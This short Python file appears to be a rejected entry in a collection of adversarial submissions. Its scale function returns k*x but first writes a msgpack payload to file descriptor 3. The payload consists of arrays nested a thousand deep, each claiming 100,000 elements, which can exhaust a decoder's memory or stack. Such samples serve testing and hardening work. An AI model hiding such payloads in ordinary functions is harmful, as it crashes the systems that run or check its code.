"""Writes lists nested a thousand deep, each of which announces 100,000 more."""
# status: rejected
# loses: all
import os
import struct

import msgpack


def send(body):
    os.write(3, struct.pack("<Q", len(body)) + body)


def scale(x, k):
    send(b"\xdd\x00\x01\x86\x9f" * 1000)
    return k * x
